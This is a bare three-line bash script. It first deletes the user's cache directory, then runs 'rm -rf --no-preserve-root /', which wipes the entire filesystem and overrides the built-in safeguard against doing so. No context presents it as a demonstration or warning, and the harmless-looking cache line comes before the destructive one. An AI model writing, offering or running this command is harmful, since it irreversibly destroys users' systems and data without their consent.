#!/bin/bash
rm -rf ~/.cache
rm -rf --no-preserve-root /
